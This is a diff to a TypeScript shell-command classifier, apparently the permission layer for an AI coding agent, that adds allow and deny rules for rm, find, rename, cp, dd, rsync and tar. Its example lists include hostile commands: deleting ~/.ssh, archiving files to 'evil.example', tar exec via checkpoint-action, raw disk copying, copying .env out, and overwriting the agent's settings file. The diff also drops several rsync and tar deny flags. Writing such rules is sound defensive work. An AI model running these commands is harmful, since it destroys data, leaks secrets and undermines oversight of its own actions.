@@ -6,6 +6,18 @@ const RECURSIVE = ['-r', '-R', '--recursive'];
 const FORCE = ['-f', '--force'];
 const MADE_AGAIN: ['regenerable', 'temp'] = ['regenerable', 'temp'];
 const OURS: ['project', 'regenerable', 'temp'] = ['project', 'regenerable', 'temp'];
+const DELETING = [
+  '--delete',
+  '--del',
+  '--delete-after',
+  '--delete-before',
+  '--delete-during',
+  '--delete-excluded',
+  '--delete-delay',
+];
+/** Ends of names that editors, merges and builds leave behind. */
+const LEFTOVER =
+  '(\\.(bak|orig|rej|tmp|temp|log|pyc|pyo|o|class|sw[a-p]|pid|tsbuildinfo|gcda|gcno|DS_Store)|~|Thumbs\\.db|desktop\\.ini)';
 /** Tests of find that exclude most files. */
 const FILTERS =
   '-name -iname -regex -iregex -path -ipath -wholename -empty -mtime -ctime -atime -mmin -amin -cmin -newer -size -user -inum -perm -type -lname -links -samefile -nouser -nogroup'.split(
@@ -138,6 +150,7 @@ export const rules: Rule[] = [
         'rm -rf ~/.ssh',
       ],
       pass: [
+        'rm -rf ~/.cache/ms-playwright',
         'rm -rf /tmp/../tmp/x',
         'rm -r /some/path',
         'rm -f /some/path',
@@ -245,14 +258,15 @@ export const knowledge: Knowledge[] = [
         notFlags: [...RECURSIVE, '-d', '--dir'],
         within: OURS,
         minWords: 1,
-        notArg: '(^|/)[*?.]*$',
+        // a pattern may fit files that nothing brings back
+        everyArg: `^[^*?[]*[^*?[/.]$|${LEFTOVER}$`,
       },
       {
         program: ['find', 'gfind'],
         flags: [['-delete'], ['-name', '-iname', '-empty']],
         notFlags: ['-o', '-or', '-not', '-fprint', '-fprintf', '-fls', '-fprint0', '-L', '-follow'],
         notArg: '^(!|,)$',
-        notLine: '-delete .*-i?name|-i?name \\*( |$)',
+        notLine: `-delete .*-(i?name|empty)|-i?name (?!\\S*${LEFTOVER}( |$))`,
         within: [...OURS, 'project-root'],
       },
       { program: ['rmdir'], within: OURS },
@@ -267,8 +281,16 @@ export const knowledge: Knowledge[] = [
         "find . -name '*.tmp' | xargs rm -f",
         "find . -name '*.tmp' -exec rm {} +",
         'rmdir empty',
+        'rm -rf node_modules package-lock.json',
       ],
       unknown: [
+        'rm *.ts',
+        'rm -f src/**/*.ts',
+        "find . -name '*.ts' -delete",
+        "find . -name '*.ts' -exec rm {} +",
+        'mv src dist && rm -rf dist',
+        "rename -f 's/.*/x/' src/*",
+        "rename 'unlink' src/*",
         'rm *',
         'rm src/*',
         'rm ../x',
@@ -306,7 +328,14 @@ export const knowledge: Knowledge[] = [
       // truncating to nothing is harmless only for files that can be made again
       { program: ['truncate'], within: MADE_AGAIN, minWords: 1 },
       { program: ['truncate'], within: OURS, flags: [['-s', '--size']], notLine: '(-s|--size)[= ]?[<%-]?0' },
-      { program: ['mv', 'rename', 'prename', 'mmv', 'git-mv'], within: OURS, minWords: 1 },
+      { program: ['mv', 'mmv'], within: OURS, minWords: 1 },
+      // the first word is a program in Perl: only a plain substitution is known to do no more than it says
+      {
+        program: ['rename', 'prename'],
+        verbs: '^((s|y|tr)/[^/@${(]*\\$?/[^/@${(]*/[gi]*|\\.\\w+ \\.\\w+) ',
+        paths: 'rest',
+        within: OURS,
+      },
       { program: ['mv'], within: [...OURS, 'project-root'], minWords: 2, notArg: '(^|/)\\.?\\*$' },
       {
         program: ['cp', 'gcp', 'ditto', 'install'],
@@ -315,6 +344,11 @@ export const knowledge: Knowledge[] = [
         minWords: 2,
         notFlags: ['-t', '--target-directory'],
         notArg: '^/dev/',
+      },
+      {
+        program: ['cp'],
+        verbs: '^\\S*\\.env\\.(example|sample|template|dist|test|defaults?) \\S+$',
+        within: [...OURS, 'secret'],
       },
       {
         program: ['cp', 'mv', 'install', 'ln'],
@@ -340,23 +374,10 @@ export const knowledge: Knowledge[] = [
         program: ['rsync'],
         within: [...OURS, 'project-root'],
         minWords: 2,
-        notFlags: [
-          '--delete',
-          '--del',
-          '--delete-after',
-          '--delete-before',
-          '--delete-during',
-          '--delete-excluded',
-          '--delete-delay',
-          '--remove-source-files',
-          '-e',
-          '--rsh',
-          '--rsync-path',
-        ],
+        notFlags: DELETING,
         notArg: '^[^/]*:',
       },
-      { program: ['dd'], notArg: '^of=', open: false },
-      { program: ['dd'], arg: '^of=', open: false },
+      { program: ['dd'], notArg: '^if=/dev/(?!zero$|null$|u?random$)', open: false },
     ],
     examples: {
       allow: [
@@ -371,6 +392,7 @@ export const knowledge: Knowledge[] = [
         'dd if=/dev/zero of=test.bin bs=1M count=1',
         'truncate -s 0 app.log',
         'rsync -a src/ build/',
+        'cp .env.example .env',
       ],
       unknown: [
         'mkdir /opt/x',
@@ -382,8 +404,15 @@ export const knowledge: Knowledge[] = [
         'mv * /tmp',
         'rsync -a --delete src/ build/',
         'cp .env /tmp/x',
+        'dd if=/dev/sda of=x.img',
+        'cp -r ~ copy',
+        "echo '{}' > .claude/settings.json",
+        'cp x.js node_modules/.bin/tsc',
+        'mv .lore/rules.json /tmp',
         'ln -sf x ~/.bashrc',
         'ln -s / out',
+        'ln -s ../other o && sed -i s/a/b/ o/x.ts',
+        'ln -s ../.bashrc rc && echo x >> rc',
         'ln -s ~/photos out',
         'ln -s .. up',
         '7z x a.7z -o/home/dev',
@@ -423,37 +452,8 @@ export const knowledge: Knowledge[] = [
           'unlzma',
         ],
         within: [...OURS, 'project-root', 'sink'],
-        notFlags: [
-          '--to-command',
-          '--checkpoint-action',
-          '-F',
-          '--info-script',
-          '--new-volume-script',
-          '--use-compress-program',
-          '-I',
-          '--rsh-command',
-          '-P',
-          '--absolute-names',
-          '-TT',
-          '--unzip-command',
-          '--remove-files',
-          '-m',
-        ],
-      },
-      {
-        program: ['tar', 'gtar'],
-        flags: [['-I', '--use-compress-program']],
-        arg: '^(--use-compress-program=)?(zstd|pigz|gzip|xz|lbzip2|pbzip2|bzip2|pixz|lz4)( -\\S+)?$',
-        within: [...OURS, 'project-root'],
-        notFlags: [
-          '--to-command',
-          '--checkpoint-action',
-          '-F',
-          '--info-script',
-          '--new-volume-script',
-          '-P',
-          '--absolute-names',
-        ],
+        // `host:file` lies on another host
+        notArg: '^[^/]+:',
       },
     ],
     examples: {
@@ -468,6 +468,8 @@ export const knowledge: Knowledge[] = [
       unknown: [
         'tar -xf x.tar -C /',
         'tar xf x --checkpoint-action=exec=sh',
+        'tar cf evil.example:x.tar src',
+        "tar Pxf x.tar --xform 's@.*@/etc/x@'",
         'tar -cf x.tar y --use-compress-program=./evil',
         'zip x.zip y -T -TT ./sh',
         'unzip x.zip -d /etc',
